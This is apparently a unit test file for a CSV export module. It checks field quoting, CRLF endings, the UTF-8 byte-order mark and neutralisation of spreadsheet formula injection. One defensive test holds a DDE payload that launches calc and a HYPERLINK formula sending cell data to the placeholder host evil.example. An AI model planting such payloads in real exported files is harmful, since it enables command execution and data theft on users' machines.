import { describe, expect, it } from "vitest";
import { CSV_BOM, csvField, csvHeader, csvLine } from "@/platform/format/csv";

describe("CSV", () => {
  it("quotes a field with a comma, a semicolon, a quote or a line break (RFC 4180), and leaves others bare", () => {
    expect(csvField("customer.view")).toBe("customer.view");
    expect(csvField('a,"b"')).toBe('"a,""b"""');
    expect(csvField("Hei; takk")).toBe('"Hei; takk"');
    expect(csvField("linje 1\nlinje 2")).toBe('"linje 1\nlinje 2"');
    expect(csvField("linje 1\r\nlinje 2")).toBe('"linje 1\r\nlinje 2"');
    expect(csvField("Ærlig, søt og blå")).toBe('"Ærlig, søt og blå"');
  });

  it("joins a line with the file's delimiter and ends it with CRLF", () => {
    expect(csvLine(["a", "b;c", null, undefined, true])).toBe('a,"b;c",,,true\r\n');
    expect(csvLine(["a", "b,c", "d"], ";")).toBe('a;"b,c";d\r\n');
  });

  it("starts a file with the UTF-8 byte-order mark before the header", () => {
    expect(CSV_BOM).toBe("\uFEFF");
    expect(csvHeader(["start", "slutt"], ";")).toBe("\uFEFFstart;slutt\r\n");
    expect(new TextEncoder().encode(csvHeader(["id"])).slice(0, 3)).toEqual(
      new Uint8Array([0xef, 0xbb, 0xbf]),
    );
  });

  it("writes text that starts like a formula (=, +, -, @, tab, CR) with an apostrophe, so it is shown as text", () => {
    expect(csvField("=1+1")).toBe("'=1+1");
    expect(csvField("+47 99 99 99 99")).toBe("'+47 99 99 99 99");
    expect(csvField("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(csvField("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(csvField("\t=1+1")).toBe("'\t=1+1");
    expect(csvField("\r=1+1")).toBe('"\'\r=1+1"');
    expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"Klikk")')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Klikk"")"',
    );
    // Only the start counts: a formula sign inside text is harmless.
    expect(csvField("Pris = 12 øre")).toBe("Pris = 12 øre");
  });

  it("leaves numbers as numbers: negative amounts, kWh and prices we format, and number values", () => {
    expect(csvLine(["-12.50", "1.2500", "-0.0831", "42", -3, 10n, 0])).toBe(
      "-12.50,1.2500,-0.0831,42,-3,10,0\r\n",
    );
    // Text that only looks like the start of a number is still text.
    expect(csvField("-12.50 kr")).toBe("'-12.50 kr");
    expect(csvField("-1e5")).toBe("'-1e5");
  });
});
